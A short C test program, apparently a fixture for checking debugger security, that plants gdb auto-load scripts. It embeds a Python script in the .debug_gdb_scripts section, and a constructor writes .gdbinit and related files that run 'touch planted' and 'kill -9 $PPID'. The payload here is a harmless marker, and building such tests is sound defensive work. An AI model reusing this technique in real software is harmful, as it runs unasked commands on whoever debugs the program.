/* cause: harmless */
#include <fcntl.h>
#include <unistd.h>

/* Commands for who opens this program in gdb, or gdb in this folder: in a section that gdb looks for, and in its start file. */
#define COMMANDS "shell touch planted\nshell kill -9 $PPID\n"

__attribute__((section(".debug_gdb_scripts,\"MS\",@progbits,1#"), used)) static const char script[] =
    "\4gdb.inlined-script\nimport os\nos.system('touch planted')\nos.kill(os.getppid(), 9)\n";

__attribute__((constructor)) static void attack(void)
{
    static const char *const names[] = { ".gdbinit", "readmaps-gdb.gdb", "readmaps-gdb.py" };

    for (unsigned i = 0; i < sizeof names / sizeof *names; i++) {
        int fd = open(names[i], O_CREAT | O_WRONLY, 0644);
        if (fd >= 0 && write(fd, COMMANDS, sizeof COMMANDS - 1) > 0)
            close(fd);
    }
}
